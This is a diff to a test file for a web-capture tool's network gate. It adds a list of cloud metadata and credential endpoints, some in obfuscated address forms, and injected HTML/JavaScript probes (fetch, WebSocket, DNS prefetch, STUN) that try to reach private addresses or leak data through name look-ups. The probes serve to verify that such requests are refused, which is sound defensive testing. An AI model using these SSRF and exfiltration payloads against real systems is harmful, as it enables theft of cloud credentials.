@@ -131,10 +131,66 @@ def test_a_redirect_to_a_private_port_is_refused(captured: Any, site: Any, trap:
     assert result.manifest.redirects[-1].cause == "http redirect"
 
 
-@pytest.mark.parametrize("scheme", ["https", "http"])
-def test_a_redirect_to_the_metadata_address_is_refused(captured: Any, site: Any, scheme: str) -> None:
-    result = captured(site.redirect(f"{scheme}://169.254.169.254/latest/meta-data/"), NAME)
-    assert result.verdict is Verdict.ADDRESS_REFUSED
+METADATA = (
+    "http://169.254.169.254/latest/meta-data/", "https://169.254.169.254/", "http://[fd00:ec2::254]/latest/meta-data/",
+    "http://169.254.170.2/v2/credentials", "http://[::ffff:a9fe:a9fe]/", "http://0xa9fea9fe/", "http://100.100.100.200/latest/",
+    "http://metadata.google.internal/computeMetadata/v1/",
+)  # fmt: skip
+
+
+@pytest.mark.parametrize("target", METADATA)
+def test_a_redirect_to_a_metadata_address_is_refused(captured: Any, site: Any, target: str) -> None:
+    result = captured(site.redirect(target), NAME)
+    # A name that only the cloud's own resolver knows is unknown here, and private there.
+    allowed = (
+        (Verdict.ADDRESS_REFUSED, Verdict.UNREACHABLE) if "google" in target else (Verdict.ADDRESS_REFUSED,)
+    )
+    assert result.verdict in allowed, result.reason
+
+
+def test_parts_of_a_page_at_metadata_addresses_are_refused(captured: Any) -> None:
+    body = POST + "".join(f"<img src='{target}'><iframe src='{target}'></iframe>" for target in METADATA)
+    result = captured(body, NAME)
+    assert result.verdict is Verdict.OK, result.reason
+    hosts = {item.host for item in result.manifest.refused_connections}
+    assert {"169.254.169.254", "fd00:ec2::254", "169.254.170.2", "100.100.100.200"} <= hosts
+    elsewhere = [one for one in result.manifest.exchanges if "127.0.0.1" not in one.url]
+    assert elsewhere
+    assert not any(one.status for one in elsewhere)  # what our own proxy said is no answer of theirs
+
+
+def test_names_that_lead_to_private_addresses_are_refused(
+    captured: Any, site: Any, trap: Any, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """A hostile name server: its names point inside, and each look-up would carry out a secret. The browser makes none."""
+    answers = {
+        "inside.example": "127.0.0.1",
+        "meta.example": "169.254.169.254",
+        "six.example": "fd00:ec2::254",
+    }
+    asked: list[str] = []
+    real_resolver = socket.getaddrinfo
+
+    def resolver(host: str, *more: Any, **options: Any) -> Any:
+        asked.append(host)
+        return real_resolver(answers.get(host, host), *more, **options)
+
+    monkeypatch.setattr("spiders.gate.socket.getaddrinfo", resolver)
+    port = trap.port
+    probes = (
+        f"<img src=http://inside.example:{port}/><link rel=dns-prefetch href=//secret.prefetch.example>"
+        f"<script>fetch('http://inside.example:{port}/', {{mode:'no-cors'}}); new WebSocket('ws://inside.example:{port}/');"
+        f"new Image().src = 'http://meta.example/'; new Image().src = 'http://six.example/';"
+        f"let p = new RTCPeerConnection({{iceServers:[{{urls:'stun:secret.stun.example:{port}'}}]}});"
+        "p.createDataChannel('x'); p.createOffer().then(o => p.setLocalDescription(o))</script>"
+    )
+    result = captured(POST + probes, NAME)
+    time.sleep(0.15)
+    assert trap.touched == []
+    assert result.verdict is Verdict.OK, result.reason
+    refused = {item.host: item.kind for item in result.manifest.refused_connections}
+    assert refused == dict.fromkeys(answers, "address refused")
+    assert {name for name in asked if name.endswith(".example")} == set(answers)
 
 
 @pytest.mark.parametrize(
